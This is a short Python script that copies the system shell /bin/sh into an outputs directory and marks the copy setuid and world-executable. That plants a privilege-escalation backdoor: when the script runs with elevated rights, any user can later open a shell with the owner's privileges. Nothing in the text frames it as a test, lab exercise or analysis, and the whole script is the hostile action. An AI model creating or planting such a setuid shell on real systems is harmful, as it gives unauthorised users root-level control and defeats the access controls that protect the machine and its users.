import os
import stat

with open("outputs/sh", "wb") as f:
    f.write(open("/bin/sh", "rb").read())
os.chmod("outputs/sh", stat.S_ISUID | 0o755)
